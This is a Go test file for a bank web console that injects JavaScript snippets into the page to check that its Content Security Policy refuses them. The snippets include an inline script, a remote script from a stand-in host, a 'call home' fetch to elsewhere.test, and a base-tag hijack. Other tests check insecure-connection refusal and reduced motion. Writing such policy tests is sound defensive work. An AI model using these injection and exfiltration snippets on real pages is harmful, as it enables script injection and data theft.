package console_test

import (
	"strings"
	"testing"

	"example.com/simplebank/libs/browsertest"
	"example.com/simplebank/services/bank/banktest"
)

// TestPolicyHolds does in the page what a script of somebody else's would try.
func TestPolicyHolds(t *testing.T) {
	tab := open(t, browsertest.Start(t), banktest.Start(t))
	tab.Find("heading", "Log in")
	if problems := tab.Problems(); len(problems) > 0 {
		t.Fatalf("before: %q", problems)
	}
	for name, script := range map[string]string{
		"markup":         `(() => { try { document.body.innerHTML = "<b>x</b>"; return "done" } catch (e) { return e.message } })()`,
		"inline script":  `(() => { const s = document.createElement("script"); try { s.textContent = "window.ran = 1"; document.head.append(s); return window.ran ? "done" : "refused" } catch (e) { return e.message } })()`,
		"script of else": `new Promise((end) => { const s = document.createElement("script"); s.onload = () => end("done"); s.onerror = () => end("refused"); try { s.src = "https://elsewhere.test/x.js" } catch (e) { return end(e.message) } document.head.append(s) })`,
		"inline style":   `(() => { const d = document.createElement("div"); d.setAttribute("style", "color: rgb(1, 2, 3)"); document.body.append(d); return getComputedStyle(d).color === "rgb(1, 2, 3)" ? "done" : "refused" })()`,
		"call home":      `fetch("https://elsewhere.test/?" + sessionStorage.length).then(() => "done", () => "refused")`,
		"frame":          `new Promise((end) => { const f = document.createElement("iframe"); f.src = "/"; f.onload = () => { try { end(f.contentDocument?.querySelector("main") ? "done" : "refused") } catch { end("refused") } }; document.body.append(f) })`,
		"base":           `(() => { const b = document.createElement("base"); b.href = "https://elsewhere.test/"; document.head.append(b); return document.baseURI.includes("elsewhere") ? "done" : "refused" })()`,
	} {
		before := len(tab.Problems())
		if got := browsertest.Evaluate[string](tab, script); got == "done" {
			t.Errorf("%s: it can be done", name)
		}
		await(t, name+" is noted", func() bool { return len(tab.Problems()) > before })
	}
	for _, problem := range tab.Problems() {
		// The browser's own page in place of a refused one is not the console's doing.
		if strings.Contains(problem, "chrome-error://") {
			tab.Expect(problem)
			continue
		}
		if !strings.Contains(problem, "Content Security Policy") && !strings.Contains(problem, "ContentSecurityPolicyIssue") && !strings.Contains(problem, "Trusted") {
			t.Errorf("of another kind: %s", problem)
		}
		tab.Expect(problem)
	}
}

// TestInsecureConnection has the console come from another machine without TLS.
func TestInsecureConnection(t *testing.T) {
	server := banktest.Start(t)
	_, port, _ := strings.Cut(server.Address, ":")
	tab := browsertest.Start(t).Open(t, "http://bank.test:"+port+"/")
	tab.See("Not over this connection", "https://")
	tab.Gone("textbox", "")
	tab.CheckAccessible("insecure")
}

// TestReducedMotion looks for what would move.
func TestReducedMotion(t *testing.T) {
	tab := open(t, browsertest.Start(t), banktest.Start(t))
	tab.Find("button", "Log in")
	const moving = `[...document.querySelectorAll("*")].filter((e) => {
		const style = getComputedStyle(e);
		return parseFloat(style.transitionDuration) > 0 || style.animationName !== "none";
	}).length`
	if browsertest.Evaluate[int](tab, moving) == 0 {
		t.Error("nothing moves in any case: this test sees nothing")
	}
	tab.Prefer("prefers-reduced-motion", "reduce")
	if n := browsertest.Evaluate[int](tab, moving); n != 0 {
		t.Errorf("%d elements move", n)
	}
}
